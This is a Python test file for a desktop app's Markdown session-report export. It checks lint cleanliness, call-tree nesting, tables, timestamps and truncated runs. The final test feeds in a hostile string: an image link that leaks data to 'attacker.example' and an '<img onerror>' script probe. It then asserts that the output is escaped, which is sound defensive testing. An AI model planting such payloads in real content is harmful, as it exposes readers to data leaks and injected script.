"""The Markdown report, read by the tools people open it with: two linters and two renderers."""

from __future__ import annotations

import re
from pathlib import Path

import markdown
import pytest
from markdown_it import MarkdownIt
from pymarkdown.api import PyMarkdownApi

from rlm_desktop.exports import export
from rlm_desktop.store import Store
from tests.store.real_sessions import FANOUT, real_sessions

__all__ = ["real_sessions"]

Sessions = tuple[Store, dict[str, str]]
SHAPES = ("fanout", "depth2", "failed", "timeout", "cancelled")


def report(sessions: Sessions, shape: str) -> str:
    store, ids = sessions
    return export(store, ids[shape], "md")


@pytest.mark.parametrize("shape", SHAPES)
def test_the_report_lints_clean_but_for_line_length(
    real_sessions: Sessions, shape: str, tmp_path: Path
) -> None:
    path = tmp_path / f"{shape}.md"
    path.write_text(report(real_sessions, shape))
    result = PyMarkdownApi().disable_rule_by_identifier("md013").scan_path(str(path))
    assert not result.scan_failures, [
        f"{failure.line_number}: {failure.rule_id} {failure.rule_description}"
        for failure in result.scan_failures
    ]
    assert not result.pragma_errors


def _nesting(html: str, call_id: str) -> int:
    """How many lists enclose the list item naming `call_id`."""
    before = html[: html.index(f"<code>{call_id}</code>")]
    return before.count("<ol>") - before.count("</ol>")


@pytest.mark.parametrize("shape", ["depth2", "fanout"])
def test_python_markdown_and_commonmark_both_nest_the_call_tree(
    real_sessions: Sessions, shape: str
) -> None:
    text = report(real_sessions, shape)
    store, ids = real_sessions
    calls = store.db.conn.execute(
        "SELECT id, depth, kind FROM calls WHERE session_id = ? ORDER BY seq", [ids[shape]]
    ).fetchall()
    assert max(depth for _, depth, _ in calls) >= 1
    for html in (
        markdown.markdown(text, extensions=["tables", "fenced_code"]),
        MarkdownIt("commonmark").render(text),
    ):
        levels = {call_id: _nesting(html, call_id) for call_id, _, _ in calls}
        parents = dict(
            store.db.conn.execute(
                "SELECT id, parent_id FROM calls WHERE session_id = ?", [ids[shape]]
            ).fetchall()
        )
        for call_id, parent in parents.items():
            expected = 1 if parent is None else levels[parent] + 1
            assert levels[call_id] == expected, (call_id, levels)
    if shape == "fanout":
        assert sum(kind == "llm" for _, _, kind in calls) == FANOUT


def test_tables_have_headers_and_headings_are_unique(real_sessions: Sessions) -> None:
    text = report(real_sessions, "depth2")
    html = MarkdownIt("commonmark").enable("table").render(text)
    assert html.count("<table>") == html.count("<thead>") >= 3
    assert "<th></th>" not in html
    headings = re.findall(r"^#+ .*$", text, re.MULTILINE)
    assert len(headings) == len(set(headings))
    store, ids = real_sessions
    (root,) = store.db.conn.execute(
        "SELECT id FROM calls WHERE session_id = ? AND parent_id IS NULL", [ids["depth2"]]
    ).fetchone()
    assert f"#### Call {root} · turn 1" in headings


def test_times_carry_their_zone(real_sessions: Sessions) -> None:
    text = report(real_sessions, "fanout")
    started = re.search(r"^\| Started \| (.*) \|$", text, re.MULTILINE)
    assert started
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d [+-]\d\d:\d\d", started[1])


def test_stderr_and_errors_are_kept_with_the_output(real_sessions: Sessions) -> None:
    text = report(real_sessions, "depth2")
    assert "to stderr" in text
    assert "ZeroDivisionError" in text


def test_a_run_that_ended_mid_turn_keeps_that_turn_and_its_unfinished_code(
    real_sessions: Sessions,
) -> None:
    for shape in ("timeout", "cancelled"):
        text = report(real_sessions, shape)
        assert "The run ended during this turn" in text, shape
        assert "Counting slowly." in text, shape
        assert "time.sleep(60)" in text, shape
        assert "Not finished when the run ended" in text, shape


def test_untrusted_text_cannot_load_anything_or_break_the_report(tmp_path: Path) -> None:
    from rlm_desktop.exports.markdown import render
    from rlm_desktop.store.detail import SessionDetail

    hostile = "![x](http://attacker.example/leak?d=1) <img src=x onerror=alert(1)>\n# Heading"
    detail = SessionDetail(
        session={
            "id": "s1",
            "query": hostile,
            "status": "error",
            "error": "<b>bad</b> | pipe",
            "answer": hostile,
            "settings": {},
            "mode": "rlm",
            "chosen_mode": None,
            "model": "m",
            "sub_model": "m",
            "profile": "p",
            "wall_s": 1.0,
            "cost_usd": 0.0,
            "unpriced": 0,
            "input_tokens": 0,
            "output_tokens": 0,
            "turns": 0,
            "sub_calls": 0,
            "max_depth_reached": 0,
            "started_at": 1.0,
            "ended_at": 2.0,
            "documents": [{"name": "a|<b>.txt", "path": "", "chars": 1, "tokens": 1, "sha256": ""}],
        },
        calls=[],
        turns=[],
        cells=[],
        requests=[],
    )
    text = render(detail)
    html = MarkdownIt("commonmark").enable("table").render(text)
    assert "<img" not in html
    assert "<b>" not in html
    assert "<h1>Heading</h1>" not in html
    path = tmp_path / "hostile.md"
    path.write_text(text)
    result = PyMarkdownApi().disable_rule_by_identifier("md013").scan_path(str(path))
    assert not result.scan_failures, [
        f"{failure.line_number}: {failure.rule_id} {failure.rule_description}"
        for failure in result.scan_failures
    ]
